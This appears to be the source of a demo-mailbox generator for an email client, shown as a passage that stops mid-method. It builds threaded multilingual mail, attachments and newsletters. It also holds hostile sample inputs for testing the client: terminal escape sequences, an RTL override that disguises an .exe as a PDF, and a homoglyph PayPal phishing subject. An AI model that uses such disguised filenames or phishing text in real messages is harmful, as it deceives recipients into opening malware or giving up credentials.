"""Generated mail for the demo account: two years of a plausible mailbox, deterministic per seed.

``MailGenerator(seed, now).build(inbox=3000)`` returns every folder's messages as RFC 5322
bytes with their INTERNALDATE and flags, oldest first (so UIDs ascend with time, as on a real
server). The same seed and ``now`` give byte-identical output. What is in it:

- personal threads with people writing in a dozen languages and scripts (encoded-word names
  and subjects), with Message-ID/In-Reply-To/References chains; the demo user's replies are in
  Sent and the messages they answer carry ``\\Answered``;
- group threads with Cc, one-off messages, notifications (some with a PDF, a PNG or an
  ``.ics`` invitation), forwarded messages (``message/rfc822``), HTML newsletters
  (``multipart/alternative`` with links, lists and a table; some HTML-only);
- a few hostile messages: ANSI/OSC escapes and Rich markup in subjects and names, a
  right-to-left override hiding a file extension, terminal escapes in a body, script and
  tracking pixels in HTML, a spoofed display name, a homoglyph;
- Sent, Drafts, Trash, Junk, Archive, ``Lists/python-dev`` (a mailing list with List-Id) and
  ``Projects`` with two subfolders; most older mail read, a few flagged.

``live_message()`` makes one more message for the live feed: often a reply to a thread whose
last word was the demo user's, so the feed shows threading as well as arrival.
"""

from __future__ import annotations

import random
import struct
import zlib
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from email.message import EmailMessage
from email.utils import format_datetime
from html import escape

from kittiwake.demo import mime, pools
from kittiwake.demo.pools import Person

SEEN = "\\Seen"
ANSWERED = "\\Answered"
FLAGGED = "\\Flagged"
DRAFT = "\\Draft"

INBOX = "INBOX"
SENT = "Sent"
DRAFTS = "Drafts"
TRASH = "Trash"
JUNK = "Junk"
ARCHIVE = "Archive"
PYTHON_DEV = "Lists/python-dev"
PROJECTS = "Projects"
PROJECTS_KITTIWAKE = "Projects/Kittiwake"
PROJECTS_GARDEN = "Projects/Garden"

#: Every folder of the demo account, in the order they are created.
FOLDERS: tuple[str, ...] = (
    INBOX,
    SENT,
    DRAFTS,
    TRASH,
    JUNK,
    ARCHIVE,
    PYTHON_DEV,
    PROJECTS,
    PROJECTS_KITTIWAKE,
    PROJECTS_GARDEN,
)

#: Subjects of fixed messages near the top of INBOX (tests and the tour refer to them).
WELCOME_SUBJECT = "Welcome to the Kittiwake demo 🐦"
INVOICE_SUBJECT = "Ihre Rechnung für Oktober – Stadtwerke Weserblick"
PHOTOS_SUBJECT = "Photos from the allotment 🌻"
INVITE_SUBJECT = "Invitation: Project kick-off (Thursday 10:00)"
FORWARD_SUBJECT = "Fwd: Übergabe der Schlüssel am Freitag"
HOSTILE_SUBJECTS: tuple[str, ...] = (
    "\x1b[31mURGENT\x1b[0m: your account will be \x1b[5mclosed\x1b[0m",
    "[bold red]Rich markup[/] stays text: [link=https://evil.example]click[/link]",
    "Your receipt \u202efdp.exe",
    "Terminal escapes in the body (should show as text)",
    "Your account statement is ready",
    "Security notice about your account",
    "Pаypal: confirm your acc\u200bount details",
    "A" * 40 + " very long subject " + "that keeps going " * 12,
)


@dataclass(frozen=True, slots=True)
class DemoUser:
    name: str = "Robin Demo"
    email: str = "robin@demo.example"

    @property
    def first(self) -> str:
        return self.name.split()[0]


DEMO_USER = DemoUser()


@dataclass(frozen=True, slots=True)
class SeedMessage:
    """One message to load into a folder: its bytes, INTERNALDATE and IMAP flags."""

    raw: bytes
    date: datetime
    flags: frozenset[str]


@dataclass(frozen=True)
class DemoMail:
    """Every folder's messages, oldest first."""

    folders: dict[str, tuple[SeedMessage, ...]]

    @property
    def total(self) -> int:
        return sum(len(msgs) for msgs in self.folders.values())


@dataclass
class _Out:
    folder: str
    date: datetime
    flags: set[str]
    raw: bytes


@dataclass
class _Thread:
    subject: str
    lang: str
    other: Person
    refs: list[str]
    last_body: str
    last_date: datetime
    last_from_user: bool
    folder: str = INBOX
    cc: tuple[Person, ...] = ()


@dataclass
class _Series:
    sender: Person
    title: str
    html_only: bool
    lang: str


_SERIES = (
    _Series(
        Person("🐦 Kittiwake Weekly", "weekly@news.kittiwake.example", "en", 0),
        "Kittiwake Weekly",
        False,
        "en",
    ),
    _Series(
        Person("Le Jardin Gourmand", "lettre@jardin-gourmand.example", "fr", 1),
        "La lettre du Jardin Gourmand",
        True,
        "fr",
    ),
    _Series(
        Person("Heimwerker-Tipps", "newsletter@baumarkt-nord.example", "de", 1),
        "Heimwerker-Tipps der Woche",
        False,
        "de",
    ),
    _Series(Person("テック週報", "digest@tech-shuho.example", "ja", 9), "テック週報", False, "ja"),
    _Series(
        Person("Rail & Sail Deals ✈", "deals@railsail.example", "en", 0),
        "This week's deals",
        True,
        "en",
    ),
)

_NOTIFIERS = {
    "parcel": Person("Parcel Express", "noreply@parcel-express.example", "en", 0),
    "bank": Person("Bank of Examples", "statements@bank.example", "en", 0),
    "utility": Person("Stadtwerke Weserblick", "rechnung@stadtwerke-weserblick.example", "de", 1),
    "security": Person("Account Security", "no-reply@accounts.example", "en", 0),
    "library": Person("Médiathèque de Lyon", "rappels@mediatheque-lyon.example", "fr", 1),
    "train": Person("Bahn-Tickets", "tickets@bahn.example", "de", 1),
    "calendar": Person("Calendar", "calendar@demo.example", "en", 0),
    "tracker": Person("Kittiwake Tracker", "notifications@git.kittiwake.example", "en", 0),
    "garden": Person(
        "Kleingartenverein Weserblick e.V.", "vorstand@kgv-weserblick.example", "de", 1
    ),
    "welcome": Person("Kittiwake Demo 🐦", "welcome@demo.example", "en", 0),
}


def _first(person: Person) -> str:
    if "," in person.name:
        return person.name.split(",", 1)[1].strip()
    return person.name.split()[0]


def _pdf(lines: list[str]) -> bytes:
    """A small valid one-page PDF showing ``lines`` (ASCII), with a correct xref table."""
    text = "\n".join(
        f"BT /F1 12 Tf 72 {770 - 18 * i} Td ("
        + line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        + ") Tj ET"
        for i, line in enumerate(lines)
    ).encode("latin-1", "replace")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for n, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def _png(width: int, height: int, colour: tuple[int, int, int]) -> bytes:
    """A valid RGB PNG: a soft gradient from ``colour`` to white, with a horizon line."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    rows = bytearray()
    r, g, b = colour
    for y in range(height):
        rows.append(0)
        t = y / max(1, height - 1)
        line = (
            (0x20, 0x50, 0x20)
            if y == height * 2 // 3
            else (
                int(r + (255 - r) * t),
                int(g + (255 - g) * t),
                int(b + (255 - b) * t),
            )
        )
        rows += bytes(line) * width
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(bytes(rows), 9))
        + chunk(b"IEND", b"")
    )


def _ics_time(when: datetime) -> str:
    return when.astimezone(UTC).strftime("%Y%m%dT%H%M%SZ")


class MailGenerator:
    """Deterministic demo mail: the same ``seed`` and ``now`` give the same bytes."""

    def __init__(
        self, seed: int = 1, now: datetime | None = None, user: DemoUser = DEMO_USER
    ) -> None:
        self.seed = seed
        self.rng = random.Random(seed)  # noqa: S311 - made-up mail, not secrets
        self.now = (now or datetime.now(UTC)).astimezone(UTC).replace(microsecond=0)
        self.user = user
        self._me = Person(user.name, user.email, "en", 1)
        self._n = 0
        self._hdr = mime.HeaderCache()
        self._threads: list[_Thread] = []
        self._pngs: dict[tuple[int, int, int], bytes] = {}
        self._issue: dict[str, int] = {}

    # -- building blocks ----------------------------------------------------------------

    def _next_id(self, domain: str, when: datetime) -> str:
        self._n += 1
        return f"<{when:%Y%m%d%H%M%S}.{self._n:05d}.{self.seed}@{domain}>"

    def _boundary(self, depth: int = 0) -> str:
        return f"_kw.{self.seed}.{self._n:05d}.{depth}_"

    def _date(self, when: datetime, person: Person) -> str:
        zone = timezone(timedelta(hours=person.utc_offset))
        return format_datetime(when.astimezone(zone))

    def _top(
        self,
        sender: Person,
        to: list[Person],
        subject: str,
        when: datetime,
        msgid: str,
        *,
        cc: list[Person] | None = None,
        refs: list[str] | None = None,
        extra: list[str] | None = None,
        to_raw: str | None = None,
    ) -> list[str]:
        h = self._hdr
        lines = [
            f"Date: {self._date(when, sender)}",
            f"From: {h.address(sender.name, sender.email)}",
            to_raw or h.addresses("To", [h.address(p.name, p.email) for p in to]),
        ]
        if cc:
            lines.append(h.addresses("Cc", [h.address(p.name, p.email) for p in cc]))
        lines.append(h.line("Subject", subject))
        lines.append(f"Message-ID: {msgid}")
        if refs:
            lines.append(f"In-Reply-To: {refs[-1]}")
            lines.append("References: " + "\r\n ".join(refs[-8:]))
        if extra:
            lines.extend(extra)
        return lines

    def _when(self, max_days: float = 730.0) -> datetime:
        """A moment in the past two years, denser towards now (mail piles up recently)."""
        seconds = int(max_days * 86400 * self.rng.random() ** 1.6)
        return self.now - timedelta(seconds=seconds, minutes=self.rng.randrange(5, 60))

    def _incoming_flags(self, when: datetime) -> set[str]:
        age = (self.now - when).days
        read = self.rng.random() < (0.985 if age > 14 else 0.3 + 0.04 * age)
        flags = {SEEN} if read else set()
        if self.rng.random() < 0.025:
            flags.add(FLAGGED)
        return flags

    def _sentences(self, lang: str, low: int, high: int) -> list[str]:
        pool = pools.SENTENCES[lang]
        count = min(len(pool), self.rng.randint(low, high))
        return self.rng.sample(pool, count)

    def _letter(
        self, lang: str, to_first: str, sender_first: str, *, low: int = 2, high: int = 5
    ) -> str:
        rng = self.rng
        greeting = rng.choice(pools.GREETINGS[lang]).format(first=to_first)
        body = self._sentences(lang, low, high)
        paragraphs = [" ".join(body[: len(body) // 2 + 1]), " ".join(body[len(body) // 2 + 1 :])]
        signoff = rng.choice(pools.SIGNOFFS[lang])
        text = greeting + "\n\n" + "\n\n".join(_wrap(p) for p in paragraphs if p)
        return text + f"\n\n{signoff}\n{sender_first}\n"

    def _subject(self, lang: str) -> str:
        rng = self.rng
        template = rng.choice(pools.SUBJECTS[lang])
        return template.format(
            day=rng.choice(pools.DAYS),
            day_de=rng.choice(pools.DAYS_DE),
            topic=rng.choice(pools.TOPICS),
            topic_de=rng.choice(pools.TOPICS_DE),
            topic_fr=rng.choice(pools.TOPICS_FR),
            month=rng.choice(pools.MONTHS),
            month_de=rng.choice(pools.MONTHS_DE),
            month_fr=rng.choice(pools.MONTHS_FR),
            n=rng.randint(2, 28),
            month_num=rng.randint(1, 12),
            year=rng.randint(2025, 2027),
        )

    def _quote(self, body: str, who: Person, when: datetime) -> str:
        lines = [line for line in body.strip().split("\n") if line.strip()][:8]
        stamp = when.astimezone(timezone(timedelta(hours=who.utc_offset))).strftime(
            "%a, %d %b %Y at %H:%M"
        )
        return f"On {stamp}, {who.name} wrote:\n" + "\n".join(f"> {line}" for line in lines)

    def _png_for(self, colour: tuple[int, int, int]) -> bytes:
        png = self._pngs.get(colour)
        if png is None:
            png = self._pngs[colour] = _png(64, 48, colour)
        return png

    # -- message kinds ------------------------------------------------------------------

    def _plain(
        self,
        sender: Person,
        to: list[Person],
        subject: str,
        when: datetime,
        body: str,
        *,
        cc: list[Person] | None = None,
        refs: list[str] | None = None,
        attachments: list[mime.Part] | None = None,
        extra: list[str] | None = None,
    ) -> tuple[bytes, str]:
        domain = sender.email.rsplit("@", 1)[1]
        msgid = self._next_id(domain, when)
        top = self._top(sender, to, subject, when, msgid, cc=cc, refs=refs, extra=extra)
        part = mime.text(body)
        if attachments:
            part = mime.multipart("mixed", [part, *attachments], self._boundary())
        return mime.serialize(top, part), msgid

    def _thread_reply_subject(self, subject: str, lang: str) -> str:
        if subject.lower().startswith(("re:", "aw:")):
            return subject
        return ("AW: " if lang == "de" and self.rng.random() < 0.5 else "Re: ") + subject

    def _conversation(self, out: list[_Out], *, group: bool = False) -> None:
        """A thread between the demo user and one person (or a few, with Cc)."""
        rng = self.rng
        idx = rng.choice(pools.CLOSE) if rng.random() < 0.6 else rng.randrange(len(pools.PEOPLE))
        other = pools.PEOPLE[idx]
        cc: tuple[Person, ...] = ()
        if group:
            cc = tuple(p for p in rng.sample(pools.PEOPLE, 3) if p is not other)[:2]
        lang = other.lang if rng.random() < 0.55 else "en"
        subject = self._subject(lang)
        start = self._when()
        archived = (self.now - start).days > 180 and rng.random() < 0.25
        incoming_folder = ARCHIVE if archived else INBOX
        length = 1 + min(7, int(rng.expovariate(1.1)))
        user_starts = rng.random() < 0.15
        refs: list[str] = []
        when = start
        last_incoming: _Out | None = None
        prev_body = ""
        prev_from = other
        thread = _Thread(subject, lang, other, refs, "", when, False, incoming_folder, cc)
        for i in range(length):
            from_user = (i % 2 == 1) != user_starts
            if group and not from_user and cc and rng.random() < 0.5:
                sender = rng.choice(cc)
            else:
                sender = self._me if from_user else other
            subj = subject if i == 0 else self._thread_reply_subject(subject, lang)
            if from_user:
                mlang = lang if lang in ("de", "fr", "es") and rng.random() < 0.5 else "en"
                text = self._letter(mlang, _first(other), self.user.first, low=1, high=3)
            else:
                text = self._letter(lang, self.user.first, _first(sender))
            if i > 0:
                text += "\n" + self._quote(prev_body, prev_from, when)
            if i > 0:
                when = when + timedelta(minutes=rng.randrange(7, 60 * 40))
            if when >= self.now - timedelta(minutes=3):
                break
            attachments = None
            if not from_user and rng.random() < 0.06:
                attachments = [self._random_attachment(when)]
            if from_user:
                to = [other]
                ccs = [p for p in cc]
            else:
                to = [self._me]
                ccs = [p for p in cc if p is not sender] + ([other] if sender is not other else [])
            raw, msgid = self._plain(
                sender,
                to,
                subj,
                when,
                text,
                cc=ccs or None,
                refs=list(refs),
                attachments=attachments,
            )
            refs.append(msgid)
            if from_user:
                out.append(_Out(SENT, when, {SEEN}, raw))
                if last_incoming is not None:
                    last_incoming.flags |= {ANSWERED, SEEN}
            else:
                last_incoming = _Out(incoming_folder, when, self._incoming_flags(when), raw)
                out.append(last_incoming)
            prev_body, prev_from = text, sender
            thread.last_body, thread.last_date, thread.last_from_user = text, when, from_user
        if refs:
            self._threads.append(thread)

    def _random_attachment(self, when: datetime) -> mime.Part:
        rng = self.rng
        kind = rng.randrange(3)
        if kind == 0:
            colour = (rng.randrange(40, 200), rng.randrange(40, 200), rng.randrange(40, 200))
            return mime.binary(
                self._png_for(colour), "image/png", f"IMG_{rng.randint(1000, 9999)}.png"
            )
        if kind == 1:
            return mime.binary(
                _pdf(["Notes", when.strftime("%d %B %Y"), "Nothing secret in here."]),
                "application/pdf",
                rng.choice(("notes.pdf", "Übersicht.pdf", "compte-rendu.pdf", "見積書.pdf")),
            )
        return mime.text(
            "date,amount,item\n2026-01-03,12.50,coffee beans\n2026-01-09,4.20,bread\n",
            "csv",
            filename="expenses.csv",
            inline=False,
        )

    def _single(self, out: list[_Out], when: datetime | None = None) -> None:
        rng = self.rng
        sender = rng.choice(pools.PEOPLE)
        lang = sender.lang if rng.random() < 0.6 else "en"
        when = when or self._when()
        text = self._letter(lang, self.user.first, _first(sender))
        attachments = [self._random_attachment(when)] if rng.random() < 0.12 else None
        raw, _ = self._plain(
            sender, [self._me], self._subject(lang), when, text, attachments=attachments
        )
        out.append(_Out(INBOX, when, self._incoming_flags(when), raw))

    def _newsletter_parts(
        self, series: _Series, issue: int, when: datetime
    ) -> tuple[str, str, str]:
        """(subject, html, plain) of one issue."""
        rng = self.rng
        items = rng.sample(pools.TOPICS, 4)
        title = f"{series.title} #{issue}"
        headline = {
            "en": "What's new this week",
            "fr": "Les nouvelles de la quinzaine 🍂",
            "de": "Neu in dieser Woche: Tipps für Balkon & Werkstatt",
            "ja": "今週の注目ニュース",
        }[series.lang]
        subject = f"{title}: {headline}"
        rows = [
            (name, rng.randint(3, 900), f"{rng.uniform(-9, 15):+.1f}%")
            for name in ("Readers", "Links", "Recipes", "Replies")
        ]
        slug = series.sender.email.rsplit("@", 1)[1]
        link = f"https://{slug}/issues/{issue}"
        html_items = "".join(
            f'<li><a href="{link}#{n}">{escape(item.capitalize())}</a> — '
            f"{escape(rng.choice(pools.SENTENCES['en']))}</li>"
            for n, item in enumerate(items)
        )
        html_rows = "".join(
            f'<tr><td>{escape(a)}</td><td style="text-align:right">{b}</td>'
            f'<td style="text-align:right">{c}</td></tr>'
            for a, b, c in rows
        )
        body_sentences = " ".join(self._sentences(series.lang, 2, 3))
        html = f"""<!DOCTYPE html>
<html lang="{series.lang}"><head><meta charset="utf-8"><title>{escape(title)}</title>
<style>body{{font-family:sans-serif;max-width:640px}} .cta{{background:#0a7;color:#fff}}</style>
</head><body>
<span style="display:none;max-height:0;overflow:hidden">Preheader: read this in your browser.</span>
<h1>{escape(title)}</h1>
<p>{escape(headline)}. {escape(body_sentences)}</p>
<h2>In this issue</h2>
<ul>{html_items}</ul>
<h2>By the numbers</h2>
<table border="1" cellpadding="4"><thead><tr><th>What</th><th>Count</th><th>Change</th></tr></thead>
<tbody>{html_rows}</tbody></table>
<p><a class="cta" href="{link}">Read the full issue online</a></p>
<ol><li>First tip: <b>back up</b> before you change anything.</li>
<li>Second tip: <i>measure</i> twice.</li></ol>
<p style="font-size:small">You receive this because you subscribed.
<a href="https://{slug}/unsubscribe?u=robin">Unsubscribe</a></p>
<img src="https://{slug}/open.gif?issue={issue}" width="1" height="1" alt="">
</body></html>
"""
        plain_items = "\n".join(
            f"  * {item.capitalize()}: {link}#{n}" for n, item in enumerate(items)
        )
        plain_rows = "\n".join(f"  {a:<10} {b:>5} {c:>7}" for a, b, c in rows)
        plain = (
            f"{title}\n{'=' * len(title)}\n\n{headline}. {_wrap(body_sentences)}\n\n"
            f"In this issue:\n{plain_items}\n\nBy the numbers:\n{plain_rows}\n\n"
            f"Read online: {link}\nUnsubscribe: https://{slug}/unsubscribe?u=robin\n"
        )
        return subject, html, plain

    def _newsletter(
        self,
        out: list[_Out],
        folder: str = INBOX,
        when: datetime | None = None,
        series: _Series | None = None,
    ) -> None:
        rng = self.rng
        series = series or rng.choice(_SERIES)
        when = when or self._when()
        issue = self._issue.get(series.title, 100) + 1
        self._issue[series.title] = issue
        subject, html, plain = self._newsletter_parts(series, issue, when)
        slug = series.sender.email.rsplit("@", 1)[1]
        msgid = self._next_id(slug, when)
        extra = [
            f"List-Unsubscribe: <https://{slug}/unsubscribe?u=robin>,"
            f"\r\n <mailto:unsubscribe@{slug}>",
            "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
            f"List-Id: {_ascii(series.title) or 'News'} <news.{slug}>",
            "Precedence: bulk",
        ]
        top = self._top(series.sender, [self._me], subject, when, msgid, extra=extra)
        html_part = mime.text(html, "html")
        if series.html_only:
            part = html_part
        else:
            part = mime.multipart("alternative", [mime.text(plain), html_part], self._boundary())
        flags = self._incoming_flags(when) if folder == INBOX else {SEEN}
        out.append(_Out(folder, when, flags, mime.serialize(top, part)))

    def _notification(self, out: list[_Out], when: datetime | None = None) -> None:
        rng = self.rng
        when = when or self._when()
        kind = rng.choice(("parcel", "bank", "utility", "security", "library", "train", "calendar"))
        sender = _NOTIFIERS[kind]
        n = rng.randint(10000, 99999)
        attachments: list[mime.Part] = []
        if kind == "parcel":
            subject = f"Your parcel is on its way (order #{n})"
            body = (
                f"Good news! Your order #{n} has left our warehouse.\n\n"
                f"Track it here: https://parcel-express.example/track/{n}\n"
            )
        elif kind == "bank":
            subject = "Your monthly statement is ready"
            body = "Your statement for last month is attached as a PDF.\n"
            attachments.append(
                mime.binary(
                    _pdf(
                        ["Bank of Examples", f"Statement {when:%B %Y}", f"Account ...{n % 10000}"]
                    ),
                    "application/pdf",
                    f"statement-{when:%Y-%m}.pdf",
                )
            )
        elif kind == "utility":
            subject = f"Ihre Abschlagsrechnung {when:%m/%Y}"
            body = (
                "Sehr geehrte Kundin, sehr geehrter Kunde,\n\nanbei erhalten Sie Ihre "
                "Abschlagsrechnung. Bitte überweisen Sie den Betrag bis zum 15.\n\n"
                "Mit freundlichen Grüßen\nIhre Stadtwerke Weserblick\n"
            )
            attachments.append(
                mime.binary(
                    _pdf(["Stadtwerke Weserblick", f"Rechnung {n}", f"Monat {when:%m/%Y}"]),
                    "application/pdf",
                    f"Rechnung_{when:%Y-%m}.pdf",
                )
            )
        elif kind == "security":
            subject = "New sign-in to your account"
            body = (
                "We noticed a new sign-in to your account from Firefox on Linux.\n"
                "If this was you, there is nothing to do.\n"
            )
        elif kind == "library":
            subject = "Rappel : retour de vos documents"
            body = (
                "Bonjour,\n\nLes documents suivants sont à rendre avant le "
                f"{when + timedelta(days=7):%d/%m} :\n  - « L'Écume des jours »\n"
                "  - « Les Misérables », tome 2\n\nMerci !\n"
            )
        elif kind == "train":
            subject = "Ihre Fahrkarte: Bremen Hbf → München Hbf"
            body = "Gute Fahrt! Ihr Ticket finden Sie im Anhang.\n"
            attachments.append(
                mime.binary(
                    _pdf(["Fahrkarte", "Bremen Hbf -> Muenchen Hbf", f"Auftrag {n}"]),
                    "application/pdf",
                    f"Ticket_{n}.pdf",
                )
            )
        else:
            subject, body, ics = self._invite_parts(when, f"Dentist appointment #{n % 100}")
            attachments.append(
                mime.text(
                    ics,
                    "calendar",
                    params={"method": "REQUEST"},
                    filename="invite.ics",
                    inline=False,
                )
            )
        raw, _ = self._plain(
            sender, [self._me], subject, when, body, attachments=attachments or None
        )
        flags = self._incoming_flags(when)
        out.append(_Out(INBOX, when, flags, raw))

    def _invite_parts(self, when: datetime, what: str) -> tuple[str, str, str]:
        start = (when + timedelta(days=3)).replace(hour=10, minute=0, second=0)
        uid = f"{self._n}-{self.seed}@demo.example"
        ics = (
            "BEGIN:VCALENDAR\nVERSION:2.0\nPRODID:-//Kittiwake Demo//Mail Generator//EN\n"
            "METHOD:REQUEST\nBEGIN:VEVENT\n"
            f"UID:{uid}\nDTSTAMP:{_ics_time(when)}\nDTSTART:{_ics_time(start)}\n"
            f"DTEND:{_ics_time(start + timedelta(hours=1))}\nSUMMARY:{what}\n"
            "LOCATION:Raum 2.14 – Gebäude Süd\n"
            "ORGANIZER;CN=Calendar:mailto:calendar@demo.example\n"
            f"ATTENDEE;CN={self.user.name};RSVP=TRUE:mailto:{self.user.email}\n"
            "END:VEVENT\nEND:VCALENDAR\n"
        )
        subject = f"Invitation: {what} ({start:%A %H:%M})"
        body = f"You are invited to: {what}\nWhen: {start:%A %d %B %Y, %H:%M} UTC\n"
        return subject, body, ics

    def _forward(
        self, out: list[_Out], when: datetime | None = None, subject: str | None = None
    ) -> None:
        rng = self.rng
        when = when or self._when()
        sender = rng.choice([pools.PEOPLE[i] for i in pools.CLOSE])
        original_from = rng.choice(pools.PEOPLE)
        inner_subject = subject or self._subject(original_from.lang)
        inner_when = when - timedelta(days=rng.randint(1, 20))
        inner_text = self._letter(original_from.lang, _first(sender), _first(original_from))
        inner, _ = self._plain(original_from, [sender], inner_subject, inner_when, inner_text)
        text = self._letter("en", self.user.first, _first(sender), low=1, high=2)
        text = "Forwarding this, see the attached message.\n\n" + text
        raw, _ = self._plain(
            sender,
            [self._me],
            f"Fwd: {inner_subject}",
            when,
            text,
            attachments=[mime.message(inner, "forwarded message.eml")],
        )
        out.append(_Out(INBOX, when, self._incoming_flags(when), raw))

    def _spam(self, out: list[_Out]) -> None:
        rng = self.rng
        i = rng.randrange(len(pools.SPAM_SUBJECTS))
        name, addr = pools.SPAM_SENDERS[i]
        sender = Person(name, addr, "en", rng.randint(-8, 9))
        when = self._when(120)
        link = f"https://{addr.rsplit('@', 1)[1]}/claim?id={rng.randint(1, 10**9)}"
        html = (
            f'<html><body><h1 style="color:red">{escape(pools.SPAM_SUBJECTS[i])}</h1>'
            f'<p>Click <a href="{link}">HERE</a> now!!!</p>'
            f'<img src="{link}&amp;px=1" width="1" height="1"></body></html>\n'
        )
        msgid = self._next_id(addr.rsplit("@", 1)[1], when)
        top = self._top(sender, [self._me], pools.SPAM_SUBJECTS[i], when, msgid)
        flags = {SEEN} if rng.random() < 0.3 else set()
        out.append(_Out(JUNK, when, flags, mime.serialize(top, mime.text(html, "html"))))

    def _list_thread(self, out: list[_Out]) -> int:
        """A python-dev thread; the demo user chimes in now and then (Sent + the list copy)."""
        rng = self.rng
        topic = rng.choice(pools.LIST_TOPICS)
        subject = f"[Python-Dev] {topic}"
        when = self._when(700)
        refs: list[str] = []
        count = 1 + min(11, int(rng.expovariate(0.3)))
        list_to = f"To: {pools.LIST_ADDRESS}"
        prev_body, prev_from = "", pools.LIST_MEMBERS[0]
        made = 0
        for i in range(count):
            if i:
                when += timedelta(minutes=rng.randrange(10, 60 * 30))
            if when >= self.now - timedelta(minutes=3):
                break
            from_user = i > 0 and rng.random() < 0.08
            sender = self._me if from_user else rng.choice(pools.LIST_MEMBERS)
            parts = self.rng.sample(pools.LIST_SENTENCES, rng.randint(2, 4))
            text = ("Hi all,\n\n" if i == 0 else "") + _wrap(" ".join(parts)) + "\n"
            if rng.random() < 0.3:
                text += "\nFor example:\n\n" + rng.choice(pools.LIST_CODE)
            text += f"\n-- \n{sender.name}\n"
            if i:
                text = self._quote(prev_body, prev_from, when) + "\n\n" + text
            subj = subject if i == 0 else f"Re: {subject}"
            domain = "lists.python.example"
            msgid = self._next_id(sender.email.rsplit("@", 1)[1], when)
            extra = [
                f"List-Id: {pools.LIST_ID}",
                f"List-Post: <mailto:{pools.LIST_ADDRESS}>",
                f"List-Unsubscribe: <mailto:python-dev-leave@{domain}>",
                f"List-Archive: <https://mail.python.example/archives/list/{pools.LIST_ADDRESS}/>",
                "Precedence: list",
            ]
            top = self._top(
                sender, [], subj, when, msgid, refs=list(refs), extra=extra, to_raw=list_to
            )
            raw = mime.serialize(top, mime.text(text))
            refs.append(msgid)
            if from_user:
                out.append(_Out(SENT, when, {SEEN}, raw))
                out.append(_Out(PYTHON_DEV, when, {SEEN}, raw))
            else:
                age = (self.now - when).days
                seen = rng.random() < (0.97 if age > 20 else 0.4)
                out.append(_Out(PYTHON_DEV, when, {SEEN} if seen else set(), raw))
            made += 1
            prev_body, prev_from = text, sender
        return made

    def _project(self, out: list[_Out], folder: str) -> None:
        rng = self.rng
        when = self._when(500)
        if folder == PROJECTS_KITTIWAKE:
            n = rng.randint(10, 900)
            title = rng.choice(
                (
                    "Folder tree loses focus after resize",
                    "Support for RFC 8474 OBJECTID",
                    "Make the HTML view respect prefers-color-scheme",
                    "Crash when a subject contains only whitespace",
                    "Faster first sync on huge folders",
                )
            )
            sender = _NOTIFIERS["tracker"]
            subject = f"[kittiwake] {title} (#{n})"
            body = (
                f"{rng.choice(pools.PEOPLE[22:]).name} commented on issue #{n}:\n\n"
                f"{_wrap(' '.join(self._sentences('en', 2, 4)))}\n\n"
                f"-- \nReply to this email directly or view it on the tracker:\n"
                f"https://git.kittiwake.example/kittiwake/issues/{n}\n"
            )
        elif folder == PROJECTS_GARDEN:
            sender = rng.choice((_NOTIFIERS["garden"], pools.PEOPLE[28], pools.PEOPLE[1]))
            subject = rng.choice(
                (
                    "Arbeitseinsatz am Samstag 🌱",
                    "Wasseruhren ablesen bis Monatsende",
                    "Seed swap at the clubhouse",
                    "Kürbis-Wettbewerb: Anmeldung offen 🎃",
                )
            )
            body = self._letter(
                sender.lang if sender.lang in ("de", "en") else "en",
                self.user.first,
                _first(sender),
            )
        else:
            sender = rng.choice(pools.PEOPLE[22:])
            subject = rng.choice(
                (
                    "Project ideas for next year",
                    "Budget overview for the projects",
                    "Who owns what: project list",
                )
            )
            body = self._letter("en", self.user.first, _first(sender))
        raw, _ = self._plain(sender, [self._me], subject, when, body)
        seen = (self.now - when).days > 7 or rng.random() < 0.5
        out.append(_Out(folder, when, {SEEN} if seen else set(), raw))

    def _drafts(self, out: list[_Out]) -> None:
        when = self.now - timedelta(hours=5)
        to = pools.PEOPLE[4]
        raw, _ = self._plain(
            self._me,
            [to],
            "Re: Devis pour la rénovation",
            when,
            "Bonjour Françoise,\n\nMerci pour le devis, je",
        )
        out.append(_Out(DRAFTS, when, {SEEN, DRAFT}, raw))
        when = self.now - timedelta(days=2)
        raw, _ = self._plain(
            self._me,
            [pools.PEOPLE[0]],
            "Unterlagen für die Steuer",
            when,
            "Hallo Jürgen,\n\nanbei die Unterlagen.\n",
            attachments=[
                mime.binary(
                    _pdf(["Steuer 2025", "Entwurf"]), "application/pdf", "Steuer-Übersicht.pdf"
                )
            ],
        )
        out.append(_Out(DRAFTS, when, {SEEN, DRAFT}, raw))
        when = self.now - timedelta(days=9)
        raw, _ = self._plain(self._me, [pools.PEOPLE[23]], "", when, "Notes to self:\n- \n")
        out.append(_Out(DRAFTS, when, {SEEN, DRAFT}, raw))

    # -- fixed messages near the top of INBOX -------------------------------------------

    def _showcase(self, out: list[_Out]) -> None:
        now = self.now
        at = [now - timedelta(minutes=m) for m in (2, 180, 300, 480, 1500, 1700, 1850)]
        # Welcome, with an HTML table of what is where.
        welcome = _NOTIFIERS["welcome"]
        rows = "".join(
            f"<tr><td>{escape(f)}</td><td>{escape(d)}</td></tr>"
            for f, d in (
                (
                    "INBOX",
                    "Two years of mail: threads, newsletters, attachments, and a few "
